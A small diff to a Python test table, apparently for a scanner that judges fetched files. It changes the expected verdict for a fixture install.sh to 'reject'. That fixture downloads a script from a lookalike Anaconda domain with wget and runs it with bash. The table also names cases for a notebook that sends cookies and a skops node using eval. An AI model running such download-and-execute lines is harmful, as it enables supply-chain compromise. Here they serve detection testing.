@@ -119,7 +119,7 @@ CASES: tuple[Case, ...] = (
     *(Case(f"fetched/ordinary-{name.replace('.', '-').lower()}", f"{name} as honest people write it", partial(_files, name, text), "admit")
       for name, text in _HARMLESS),
     Case("fetched/like-an-installer", "an address that begins like that of an installer", partial(_files, "install.sh",
-         "wget https://repo.anaconda.com.example.org/miniconda/Miniconda3-x.sh\nbash Miniconda3-x.sh -b\n"), "review", frozenset({_SHELL})),
+         "wget https://repo.anaconda.com.example.org/miniconda/Miniconda3-x.sh\nbash Miniconda3-x.sh -b\n"), "reject", frozenset({_SHELL})),
     Case("fetched/notebook-cookie", "a stored output sends cookies", lambda: {**_MODEL, "a.ipynb": _notebook()}, "reject", frozenset({_OUTPUT})),
     Case("fetched/skops-function", "a FunctionNode whose content names eval", lambda: {"model.skops": skops(_EVAL)}, "reject",
          frozenset({"skops/dangerous-node"})),
